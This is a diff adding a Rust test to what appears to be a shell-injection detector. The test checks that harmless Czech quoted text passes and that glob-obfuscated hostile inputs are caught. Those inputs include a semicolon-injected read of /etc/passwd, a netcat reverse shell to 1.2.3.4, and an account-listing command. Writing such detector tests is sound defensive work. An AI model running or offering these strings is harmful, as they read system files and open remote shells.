@@ -1049,3 +1049,17 @@ fn command_glued_to_an_unset_variable() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn capitalised_globs_match_no_program() {
+    for v in ["x\n\"Ne? V tom případě\"", "\"a!\"\n\"Ne? V tom\""] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        ";/???/c?t /etc/passwd",
+        "x\n/???/bin/n? -e /bin/sh 1.2.3.4 1",
+        ";ne? user",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
